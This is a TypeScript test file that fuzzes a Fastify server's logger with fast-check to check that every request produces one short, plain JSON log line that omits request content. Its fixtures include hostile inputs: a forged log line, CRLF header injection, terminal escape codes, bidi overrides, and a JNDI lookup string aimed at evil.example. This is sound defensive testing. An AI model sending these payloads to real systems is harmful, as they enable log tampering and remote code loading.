import fc from "fast-check";
import type { InjectOptions } from "fastify";
import { expect, test } from "vitest";
import { startTestServer } from "../../test/test-server.ts";
import { newLog } from "../platform/log/log.ts";

/** Input that forges a line, moves the cursor, reverses the text direction, or is just very long. */
const hostile = fc.oneof(
  fc.constantFrom(
    '\n{"level":30,"msg":"Answered"}',
    "\r\nSet-Cookie: x=1",
    "\u001b[2J\u001b[31mred",
    "\u202Eeno rehto na\u202C",
    "\u2028\u2029\u0085",
    "$\u007Bjndi:ldap://evil.example/a}",
    "\u0000",
    "\ud800",
  ),
  fc.string({ unit: "binary", maxLength: 40 }),
);

/** Headers may only contain bytes; everything else may contain anything. */
const inHeader = (text: string): string => text.replace(/[^\t -~\u00a0-\u00ff]/g, "?");

const requests = fc.record({
  method: fc.constantFrom("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE"),
  path: fc.constantFrom(
    "/",
    "/dashboard",
    "/graphql",
    "/auth/one-time-link",
    "/wizard/storage",
    "/assets/",
    "/nowhere/",
  ),
  said: hostile,
  repeat: fc.constantFrom(1, 1, 1, 30_000),
});

const requestSaying = (method: string, path: string, said: string): InjectOptions => ({
  method: method as "GET",
  url: `${path}?said=${encodeURIComponent(Buffer.from(said.slice(0, 2_000)).toString())}`,
  headers: {
    "user-agent": inHeader(said).slice(0, 2_000),
    "x-forwarded-for": inHeader(said).slice(0, 200),
    "content-type": "application/json",
  },
  ...(method === "POST" ? { payload: JSON.stringify({ email: said, query: said }) } : {}),
});

test("LOG-03 any request is logged as exactly one short line of plain JSON, without its content", async () => {
  const lines: string[] = [];
  const log = newLog({ logLevel: "debug" }, (line) => lines.push(line));
  const { app } = await startTestServer({}, { log });
  await fc.assert(
    fc.asyncProperty(requests, async ({ method, path, said, repeat }) => {
      lines.length = 0;
      await app.inject(requestSaying(method, path, `canary-${said.repeat(repeat)}`));
      const answered = lines.map((line) => JSON.parse(line)).filter(({ msg }) => msg === "Answered");
      expect(answered).toHaveLength(1);
      for (const line of lines) {
        expect(line).toMatch(/^[ -~]+\n$/);
        expect(line.length).toBeLessThan(4_000);
        expect(line).not.toContain("canary");
      }
    }),
    { seed: 20_261_120, numRuns: 200 },
  );
});

test("LOG-03 an error with a hostile message is one short plain line too", () => {
  const lines: string[] = [];
  const log = newLog({ logLevel: "info" }, (line) => lines.push(line));
  const words = '\n{"level":30}\u001b[2J\u202E'.repeat(100_000);
  log.error({ err: new Error(words) }, "A request failed");
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^[ -~]+\n$/);
  expect(lines[0]?.length).toBeLessThan(8_000);
  expect(JSON.parse(lines[0] ?? "")).toMatchObject({ msg: "A request failed", err: { kind: "Error" } });
});
